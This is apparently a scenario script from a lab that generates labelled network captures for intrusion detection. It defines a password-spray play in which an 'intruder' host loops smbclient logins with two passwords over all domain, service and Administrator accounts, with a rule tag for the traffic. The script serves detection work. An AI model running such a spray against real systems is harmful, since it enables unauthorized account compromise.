# 10.60.0.66 tries one password after the other on all accounts with smbclient, two rounds; the second
# is right for grace.
topology=domain
file=domain-spray.pcap.gz
class=lateral
family="password-spray-smb"
rule=SRC:10.60.0.66:lateral

play() {
  local password who
  domain_day 110
  sleep 20
  for password in 'Herbst-2026' 'Sommer-grace-7'; do
    for who in "${people[@]}" svc-web svc-sql svc-scan Administrator; do
      inside intruder smbclient -L //dc1.corp.example -U "$who%$password" >/dev/null 2>&1 || true
      sleep 0.5
    done
    sleep 5
  done
  sleep 15
}
